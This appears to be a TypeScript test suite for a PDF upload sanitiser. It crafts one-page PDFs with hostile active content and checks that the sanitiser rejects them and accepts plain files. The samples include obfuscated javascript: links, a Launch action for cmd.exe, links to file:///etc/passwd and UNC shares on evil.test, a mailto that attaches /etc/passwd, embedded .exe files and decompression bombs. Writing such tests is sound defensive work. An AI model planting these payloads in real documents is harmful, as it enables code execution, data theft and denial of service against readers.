import { deflateRawSync, deflateSync } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';
import { describe, expect, it } from 'vitest';
import { activeComplaint } from './inspect-pdf-objects.ts';
import { writePdfAnew } from './write-pdf-anew.ts';

interface Parts {
  readonly catalog?: string;
  readonly page?: string;
  /** Objects from number 4 on. */
  readonly more?: readonly (string | Buffer)[];
}

/** A document of one page, written by hand: programs that write documents would not write these. */
function documentWith({ catalog = '', more = [], page = '' }: Parts): Buffer {
  const objects = [
    `<</Type/Catalog/Pages 2 0 R ${catalog}>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100] ${page}>>`,
    ...more,
  ];
  const written = objects.flatMap((object, n) => [
    Buffer.from(`${n + 1} 0 obj\n`),
    Buffer.from(object),
    Buffer.from('\nendobj\n'),
  ]);
  return Buffer.concat([Buffer.from('%PDF-1.7\n'), ...written, Buffer.from('trailer<</Root 1 0 R>>\n%%EOF\n')]);
}

const link = (action: string): Parts => ({
  page: `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<<${action}>>>>]`,
});
const mark = (inside: string): Parts => ({ page: `/Annots[<</Rect[0 0 9 9]${inside}>>]` });
const stream = (dict: string, data: Buffer): Buffer =>
  Buffer.concat([Buffer.from(`<<${dict}/Length ${data.length}>>\nstream\n`), data, Buffer.from('\nendstream')]);
const hex = (text: string) => `<${Buffer.from(text).toString('hex')}>`;
const file = stream('/Filter/FlateDecode', deflateSync(Buffer.from('MZ a program')));

const actions: [string, string][] = [
  ['a script as address', '/S/URI/URI(javascript:alert\\(1\\))'],
  ['a script as address in digits', `/S/URI/URI${hex('javascript:app.alert(1)')}`],
  ['a script as address in escapes', '/S/URI/URI(java\\163cript:alert\\(1\\))'],
  ['a script as address with lines in it', '/S/URI/URI(java\\nscript:alert\\(1\\))'],
  [
    'a script as address in 16 bits',
    `/S/URI/URI<FEFF${Buffer.from('javascript:x', 'utf16le').swap16().toString('hex')}>`,
  ],
  ['a file as address', '/S/URI/URI(file:///c:/windows/system32/calc.exe)'],
  ['a shared folder as address', '/S/URI/URI(\\\\\\\\evil.test\\\\share)'],
  ['a user before the host of an address', '/S/URI/URI(https://portal.example@evil.test/)'],
  ['a mail that carries a file', '/S/URI/URI(mailto:a@evil.test?attach=/etc/passwd)'],
  ['a page of another document', '/S/GoToR/F(\\\\\\\\evil.test\\\\share\\\\a.pdf)/D[0/Fit]'],
  ['a page of a document inside', '/S/GoToE/T<</R/C/N(x)>>/D[0/Fit]'],
  ['a program', '/S/L#61unch/F(cmd.exe)'],
  ['a film', '/S/Movie'],
  ['a film of a newer kind', '/S/Rendition/OP 0'],
  ['a command of the reader', '/S/Named/N/Print'],
  ['an action that nobody knows yet', '/S/Teleport'],
  ['an action whose kind is a text', '/S(Movie)'],
  ['a second action after a harmless one', '/S/GoTo/D[3 0 R/Fit]/Next<</S/GoToR/F(a.pdf)>>'],
  ['a third one in a list', '/S/GoTo/D[3 0 R/Fit]/Next[<</S/GoTo/D[3 0 R/Fit]>><</S/Movie>>]'],
];
const noData = Buffer.from('x');
/** Each place at which a reader looks for an action, which is object 4. */
const places: [string, Parts][] = [
  ['a mark', mark('/Subtype/Link/A 4 0 R')],
  ['a mark of an older kind', mark('/Subtype/Link/PA 4 0 R')],
  ['a list of actions', mark('/Subtype/Link/A[4 0 R]')],
  ['a chapter', { catalog: '/Outlines<</First<</Title(x)/A 4 0 R>>>>' }],
  ['the opening', { catalog: '/OpenAction 4 0 R' }],
  ['an action before it', mark('/Subtype/Link/A<</S/GoTo/D[3 0 R/Fit]/Next 4 0 R>>')],
];
/** Each of them as a dictionary, and as a stream, which readers take for its dictionary. */
const written = actions.flatMap(([what, action]): [string, Parts][] =>
  places.flatMap(([where, parts]): [string, Parts][] => [
    [`${what} at ${where}`, { ...parts, more: [`<<${action}>>`] }],
    [`${what} at ${where}, as a stream`, { ...parts, more: [stream(action, noData)] }],
  ]),
);
/** Harmless as dictionaries: no program writes them as streams. */
const streams = ['/S/GoTo/D[3 0 R/Fit]', '/S/URI/URI(https://pumps.example/)', '/S 5 0 R'].flatMap((action) =>
  [...places, ['a place that only a newer reader finds', {}] as const].map(([where, parts]): [string, Parts] => [
    `${action} as a stream at ${where}`,
    { ...parts, more: [stream(action, noData), '/GoTo'] },
  ]),
);

const active: [string, Parts][] = [
  ...written,
  ...streams,
  ['a file behind a mark', { ...mark('/Subtype/FileAttachment/FS<</F(invoice.exe)/EF<</F 4 0 R>>>>'), more: [file] }],
  ['a file of the document', { catalog: '/AF[<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>]', more: [file] }],
  ['an action as an object of its own', { ...mark('/Subtype/Link/A 4 0 R'), more: ['<</S/Movie>>'] }],
  ['an action that only a newer reader finds', { more: ['<</Type/Action/S/Movie>>'] }],
  ['an action of a chapter', { catalog: '/Outlines<</First<</Title(x)/A<</S/GoToR/F(a.pdf)>>>>>>' }],
  ['an action at its opening', { catalog: '/OpenAction<</S/URI/URI(file:///etc/passwd)>>' }],
  ['a list of scripts', { catalog: '/Names<</JavaScript<</Names[(x) 4 0 R]>>>>', more: ['<</K 1>>'] }],
  ['a script without its kind', { more: ['<</JS(app.alert\\(1\\))>>'] }],
  ['an action as a page is left', { page: '/AA<</C<</S/GoTo/D[3 0 R/Fit]>>>>' }],
  ['a list of files', { catalog: '/Names<</EmbeddedFiles<</Names[]>>>>' }],
  ['a form of another kind', { catalog: '/AcroForm<</XFA[(template) 4 0 R]>>', more: [stream('', noData)] }],
  ['media with a program', { more: ['<</RichMediaContent<</K 1>>>>'] }],
  ['a sound', mark('/Subtype/Sound')],
  ['a film on the page', mark('/Subtype/Screen')],
  ['a solid body', mark('/Subtype/3D')],
  ['a mark without a kind', mark('')],
  ['a mark as a stream', { page: '/Annots[4 0 R]', more: [stream('/Subtype/Movie', noData)] }],
  ['a harmless mark as a stream', { page: '/Annots[4 0 R]', more: [stream('/Subtype/Link', noData)] }],
  ['marks as a stream', { page: '/Annots 4 0 R', more: [stream('/Subtype/Movie', noData)] }],
  ['marks in a list of a list', { page: '/Annots[[<</Subtype/Movie>>]]' }],
  ['one mark without a list', { page: '/Annots<</Subtype/Movie>>' }],
  ['a page of another document as a picture', { more: ['<</Ref<</F(\\\\\\\\evil.test\\\\a.pdf)/Page 0>>>>'] }],
  ['a picture in another file', { more: ['<</OPI<</2.0<</F<</UF(\\\\\\\\evil.test\\\\a.tif)>>>>>>>>'] }],
  ['a mark that no page shows', { more: ['<</Type/Annot/Subtype/Movie>>'] }],
];

const plain: [string, Parts][] = [
  ['a page to begin with', { catalog: '/OpenAction[3 0 R/Fit]' }],
  ['a page to begin with, as an action', { catalog: '/OpenAction<</S/GoTo/D[3 0 R/Fit]>>' }],
  ['an address on the web', link('/S/URI/URI(https://pumps.example/a?b=c)')],
  ['an address for mails', link(`/S/URI/URI${hex('mailto:sales@pumps.example')}`)],
  ['a link to a page', mark('/Subtype/Link/Dest[3 0 R/Fit]')],
  [
    'chapters',
    {
      catalog: '/Outlines<</First 4 0 R/Last 5 0 R>>',
      more: ['<</Title(a)/Next 5 0 R/Dest[3 0 R/Fit]>>', '<</Title(b)/Prev 4 0 R/A<</S/GoTo/D[3 0 R/Fit]>>>>'],
    },
  ],
  ['attributes of a heading', { catalog: '/StructTreeRoot<</K<</S/H1/A<</O/Layout/SpaceBefore 1>>>>>>' }],
  ['a page number style', { catalog: '/PageLabels<</Nums[0<</S/D>>]>>' }],
  [
    'a picture that is called A',
    { page: '/Resources<</XObject<</A 4 0 R>>>>', more: [stream('/Subtype/Form', noData)] },
  ],
  ['a table for slow lines', { more: [stream('/S 36', noData)] }],
  ['a mark that is gone', { page: '/Annots[9 0 R null]' }],
  ['a page to begin with, by its name', { catalog: '/OpenAction(start)' }],
  ['a remark', mark('/Subtype/Text/Contents(Please check)')],
];

const contents = (dict: string, data: Buffer): Parts => ({ page: '/Contents 4 0 R', more: [stream(dict, data)] });
const pages = Buffer.alloc(100_000_000, ' ');
const bombs: [string, () => Parts][] = [
  ['a page', () => contents('/Filter/FlateDecode', deflateSync(pages))],
  [
    'a page with a wrong checksum',
    () => contents('/Filter/FlateDecode', Buffer.concat([deflateSync(pages).subarray(0, -4), Buffer.alloc(4)])),
  ],
  [
    'a page without a checksum',
    () => contents('/Filter/FlateDecode', Buffer.concat([Buffer.from([0x78, 0x9c]), deflateRawSync(pages)])),
  ],
  ['a page packed twice', () => contents('/Filter[/FlateDecode/FlateDecode]', deflateSync(deflateSync(pages)))],
  [
    'a page of repeated bytes',
    () => contents('/Filter/RunLengthDecode', Buffer.alloc(2_000_000, Buffer.from([129, 32]))),
  ],
  [
    'many pages that are small each',
    () => ({
      more: Array.from({ length: 20 }, () => stream('/Filter/FlateDecode', deflateSync(pages.subarray(0, 4_000_000)))),
    }),
  ],
  [
    'a picture without end',
    () => ({ more: [stream('/Subtype/Image/Width 60000/Height 60000/Filter/JBIG2Decode', Buffer.alloc(9))] }),
  ],
  [
    'a picture that is packed once more',
    () => contents('/Subtype/Image/Filter[/FlateDecode/DCTDecode]', deflateSync(pages)),
  ],
  ['an unknown filter', () => contents('/Filter/SecretDecode', Buffer.alloc(9))],
  ['data in another file', () => contents('/F(\\\\\\\\evil.test\\\\a)', Buffer.alloc(9))],
];

describe('an uploaded document', () => {
  it.each(active)('may not have %s', async (_what, parts) => {
    expect(await writePdfAnew(documentWith(parts))).toEqual({ complaint: activeComplaint });
  });

  it.each(plain)('may have %s', async (_what, parts) => {
    const { complaint, written } = await writePdfAnew(documentWith(parts));
    expect(complaint).toBeUndefined();
    expect((await PDFDocument.load(written!)).getPageCount()).toBe(1);
  });

  it.each(bombs)('may not unpack to too much in the program that shows it: %s', async (_what, parts) => {
    const { complaint } = await writePdfAnew(documentWith(parts()));
    expect(complaint).toMatch(/unpacks to too much in a reader|is packed in an unknown way|names a file outside/);
  });

  it('may have pages that unpack to ten times their size', async () => {
    const text = Buffer.from('0 0 m 10 10 l S\n'.repeat(60_000));
    for (const parts of [
      contents('/Filter/FlateDecode', deflateSync(text)),
      contents('/Filter[/ASCIIHexDecode/FlateDecode]', Buffer.from(`${deflateSync(text).toString('hex')}>`)),
    ])
      expect((await writePdfAnew(documentWith(parts))).complaint).toBeUndefined();
  });
});
